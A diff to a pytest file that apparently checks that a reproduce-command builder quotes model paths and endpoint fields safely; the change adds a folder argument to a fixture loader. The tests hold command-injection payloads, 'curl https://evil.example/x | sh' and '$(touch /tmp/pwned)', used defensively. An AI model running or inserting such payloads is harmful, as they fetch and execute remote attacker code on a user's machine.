@@ -17,8 +17,8 @@ from conftest import FIXTURES
 PAYLOAD = "x.gguf; curl https://evil.example/x | sh #"
 
 
-def _record(name: str) -> dict[str, object]:
-    record: dict[str, object] = json.loads((FIXTURES / "results" / name).read_text())
+def _record(name: str, folder: str = "results") -> dict[str, object]:
+    record: dict[str, object] = json.loads((FIXTURES / folder / name).read_text())
     return record
 
 
@@ -34,7 +34,7 @@ def test_a_model_path_with_shell_syntax_stays_one_word() -> None:
 
 @pytest.mark.parametrize("field", ["model_id", "url", "api_key_env"])
 def test_endpoint_words_with_shell_syntax_stay_one_word(field: str) -> None:
-    record = _record("endpoint-load-sweep-zero.json")
+    record = _record("endpoint-load-sweep-zero.json", "results-publish")
     endpoint = record["endpoint"]
     endpoint[field] = f"$(touch /tmp/pwned){PAYLOAD}"  # type: ignore[index]
     words = shlex.split(reproduce_command(record))
